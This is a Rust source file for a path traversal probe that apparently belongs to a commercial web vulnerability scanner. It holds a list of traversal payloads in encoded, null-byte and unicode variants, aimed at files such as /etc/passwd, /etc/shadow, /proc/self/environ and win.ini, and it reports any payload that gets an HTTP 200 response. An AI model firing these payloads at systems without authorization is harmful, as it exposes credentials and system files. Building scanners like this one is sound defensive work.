// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

/**
 * Bountyy Oy - File Traversal Probe
 * Tests path traversal patterns against the target origin
 *
 * Covers plain, URL-encoded, double-encoded, Windows, null-byte, mixed
 * and unicode traversal variants plus a few absolute-path grabs. Any
 * pattern answered with HTTP 200 is reported.
 *
 * @copyright 2026 Bountyy Oy
 * @license Proprietary
 */

use anyhow::Result;
use futures::future::join_all;
use std::sync::Arc;
use tracing::debug;

use crate::http_client::HttpClient;
use crate::probes::{Probe, ProbeOutcome};
use crate::target::TargetContext;

const NO_FINDINGS: &str = "No file traversal vulnerabilities detected";

const TRAVERSAL_PATTERNS: &[&str] = &[
    // Basic directory traversals
    "/../../../../etc/passwd",
    "/../../../etc/passwd",
    "/../../etc/passwd",
    // URL-encoded variations
    "/%2e%2e/%2e%2e/etc/passwd",
    "/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/..%2f..%2f..%2fetc%2fpasswd",
    "/..%252f..%252f..%252fetc%252fpasswd",
    // Windows-style traversals
    "/..\\..\\..\\windows\\win.ini",
    "/..%5c..%5c..%5cwindows%5cwin.ini",
    "/..%255c..%255c..%255cwindows%255cwin.ini",
    // Null byte injections
    "/../../../../etc/passwd%00",
    "/../../../../etc/passwd%00.jpg",
    "/../../../etc/passwd%00.txt",
    // Mixed encoding and slashes
    "/..\\/..\\/..\\/etc/passwd",
    "/..%5c..%2f..%5cetc%2fpasswd",
    // UTF-8/Unicode variations
    "/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "/%ef%bc%8f..%ef%bc%8f..%ef%bc%8fetc%ef%bc%8fpasswd",
    // Interesting file targets (both Unix and Windows)
    "/../../../../etc/shadow",
    "/../../../../proc/self/environ",
    "/../../../../var/log/apache2/access.log",
    "/../../../../windows/win.ini",
    "/../../../../boot.ini",
    // With parameter suffixes
    "/../../../etc/passwd?test=123",
    "/../../../etc/passwd#fragment",
    // With fake extensions
    "/../../../etc/passwd.png",
    "/../../../etc/passwd.css",
    // Absolute paths (sometimes work)
    "/etc/passwd",
    "/C:/windows/win.ini",
];

pub struct FileTraversalProbe {
    http_client: Arc<HttpClient>,
}

impl FileTraversalProbe {
    pub fn new(http_client: Arc<HttpClient>) -> Self {
        Self { http_client }
    }

    async fn test_pattern(&self, origin: &str, pattern: &str) -> bool {
        let url = format!("{}{}", origin, pattern);
        match self.http_client.get(&url).await {
            Ok(response) => response.status_code == 200,
            Err(e) => {
                debug!("Traversal pattern {} failed: {}", pattern, e);
                false
            }
        }
    }
}

#[async_trait::async_trait]
impl Probe for FileTraversalProbe {
    async fn run(&self, ctx: &TargetContext) -> Result<ProbeOutcome> {
        let origin = ctx.origin();

        let results = join_all(
            TRAVERSAL_PATTERNS
                .iter()
                .map(|pattern| self.test_pattern(&origin, pattern)),
        )
        .await;

        let messages: Vec<String> = TRAVERSAL_PATTERNS
            .iter()
            .zip(results)
            .filter(|(_, hit)| *hit)
            .map(|(pattern, _)| {
                format!(
                    "Potential file traversal vulnerability detected at: {}",
                    pattern
                )
            })
            .collect();

        if messages.is_empty() {
            return Ok(ProbeOutcome::clean(NO_FINDINGS));
        }

        Ok(ProbeOutcome::findings(messages))
    }
}
